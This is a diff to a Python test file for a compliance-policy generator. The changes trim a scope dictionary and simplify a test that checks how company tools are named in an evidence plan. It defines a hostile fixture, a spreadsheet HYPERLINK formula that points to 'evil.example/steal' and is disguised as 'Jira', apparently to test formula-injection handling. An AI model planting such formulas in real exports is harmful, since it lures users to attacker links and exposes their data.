@@ -29,7 +29,7 @@ from policyforge.render import markdown_to_html
 
 slow = pytest.mark.slow
 SECURITY_ONLY = {"scope_availability": "no", "scope_confidentiality": "no", "scope_processing_integrity": "no",
-                 "scope_privacy": "no", "data_pii": "no"}
+                 "scope_privacy": "no"}
 HOSTILE_TOOL = '=HYPERLINK("https://evil.example/steal","Jira")'
 
 
@@ -137,10 +137,9 @@ def test_owner_is_the_named_person_for_the_controls_role(library: Library) -> No
 
 
 def test_systems_are_named_with_the_company_tools(library: Library) -> None:
-    rows = rows_by_id(evidence_plan(program_for(library, identity_provider="Entra ID", cloud_providers="gcp",
-                                                cloud_regions="us-central1, us-east1")))
+    rows = rows_by_id(evidence_plan(program_for(library, identity_provider="Entra ID", cloud_providers="gcp")))
     assert rows["EV-21"]["System"] == "Entra ID, Jira"
-    assert rows["EV-55"]["System"] == "Backup and DR Service"  # derived from the provider, never AWS Backup
+    assert rows["EV-55"]["System"] == "Backup and DR Service"  # derived from the cloud, not the example
     assert rows["EV-10"]["System"] == "KnowBe4"
     assert rows["EV-33"]["System"] == "Google Cloud"
     assert rows["EV-04"]["System"] == "documents"
